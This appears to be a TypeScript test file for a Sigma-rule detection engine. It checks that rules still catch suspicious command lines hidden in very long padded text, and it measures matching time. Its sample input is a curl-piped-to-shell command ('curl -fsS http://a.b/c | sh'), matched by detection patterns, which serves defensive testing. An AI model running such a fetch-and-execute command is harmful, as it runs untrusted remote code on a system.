/** Command lines as long as the kernel takes them: what rules still see, and what they cost. */
import { describe, expect, it } from 'vitest';
import { MAX_EVENT_TEXT } from '../../../contract/events.ts';
import { OWN_RULES, readRuleFiles } from './folder.ts';
import { SigmaRuleSet } from './rule-set.ts';
import { boundedText, MAX_SLOW_TEXT } from './text-bound.ts';

function event(commandLine: string, parent = 'sh') {
  return {
    type: 'process-start',
    timeMs: 0,
    process: { pid: 2, image: '/bin/sh', commandLine, parent: { pid: 1, image: '/bin/sh', commandLine: parent } },
  } as const;
}

function rule(condition: string): SigmaRuleSet {
  const text = `title: T
logsource: { product: linux, category: process_creation }
detection:
  s: { ${condition} }
  condition: s`;
  const rules = SigmaRuleSet.load([{ path: 'x.yml', text }]);
  expect(rules.problems).toEqual([]);
  return rules;
}

/** So much of nothing that a rule looks for, with a text in it that begins there. */
function padded(text: string, at: number, length = MAX_EVENT_TEXT): string {
  return `${'x '.repeat(length / 2).slice(0, at)}${text}${' x'.repeat(length / 2)}`.slice(0, length);
}

const MATCH = 'curl -fsS http://a.b/c | sh';
const CONDITIONS = {
  contains: "CommandLine|contains: '| sh'",
  'contains all': "CommandLine|contains|all: [curl, '| sh']",
  cased: "CommandLine|contains|cased: '| sh'",
  wildcards: "CommandLine|contains: 'curl*http?//*| sh'",
  regex: "CommandLine|re: 'curl\\s[^|]*\\|\\s*sh'",
};

describe('rules about long texts', () => {
  it.each(Object.entries(CONDITIONS))('see all of one up to the bound: %s', (_name, condition) => {
    const rules = rule(condition);
    for (const at of [0, 2_000, 4_090, 6_000, MAX_SLOW_TEXT - MATCH.length]) {
      expect(rules.match(event(padded(MATCH, at, MAX_SLOW_TEXT))), `at ${at}`).toHaveLength(1);
    }
  });

  it.each(Object.entries(CONDITIONS))('see both ends of one beyond it: %s', (_name, condition) => {
    const rules = rule(condition);
    for (const at of [0, 3_000, MAX_EVENT_TEXT - MATCH.length, MAX_EVENT_TEXT - 3_000]) {
      expect(rules.match(event(padded(MATCH, at))), `at ${at}`).toHaveLength(1);
    }
    expect(rules.match(event(padded('nothing', 0)))).toEqual([]);
  });

  it.each(['contains', 'contains all', 'cased'] as const)('see a text wherever it stands: %s', (name) => {
    const rules = rule(CONDITIONS[name]);
    for (const at of [5_000, 60_000, 100_000]) expect(rules.match(event(padded(MATCH, at)))).toHaveLength(1);
  });

  it('match nothing that came together by leaving the middle out', () => {
    const half = MAX_SLOW_TEXT / 2;
    const text = `${'x'.repeat(half - 4)}curl${'y'.repeat(20_000)} evil${'x'.repeat(half - 5)}`;
    expect(boundedText(text)).toHaveLength(MAX_SLOW_TEXT + 1);
    expect(rule("CommandLine|re: 'curl\\s+evil'").match(event(text))).toEqual([]);
    expect(rule("CommandLine|re: 'curl.+evil'").match(event(text))).toHaveLength(1);
    expect(boundedText('x'.repeat(MAX_SLOW_TEXT))).toHaveLength(MAX_SLOW_TEXT);
  });

  it('see both ends of the command line above', () => {
    const rules = rule("ParentCommandLine|contains: '| sh'");
    expect(rules.match(event('x', padded(MATCH, 0)))).toHaveLength(1);
    expect(rules.match(event('x', padded(MATCH, MAX_EVENT_TEXT - MATCH.length)))).toHaveLength(1);
  });
});

describe('a storm of long command lines', () => {
  const { files } = readRuleFiles([OWN_RULES], -1);
  const words = files.flatMap(({ text }) => text.split(/[\s'",:[\]]+/)).filter((word) => word.length > 1);
  const all = words
    .join(' ')
    .repeat(4)
    .slice(0, MAX_EVENT_TEXT - 8);
  const texts = { 'one letter': 'a'.repeat(MAX_EVENT_TEXT - 8), 'all that rules look for': all };

  it.each(Object.entries(texts))('costs some milliseconds each: %s', (_name, text) => {
    const rules = SigmaRuleSet.load(files);
    const costs = Array.from({ length: 15 }, (_, turn) => {
      const one = event(`${text}${turn}`, `${text}${turn}`);
      const before = process.cpuUsage();
      rules.match(one);
      return process.cpuUsage(before).user / 1_000;
    });
    const [median = 0] = costs.sort((a, b) => a - b).slice(7);
    // Some 2 to 8, with the machine busy; every rule that searched by itself made it 50.
    expect(median).toBeLessThan(20);
  });
});
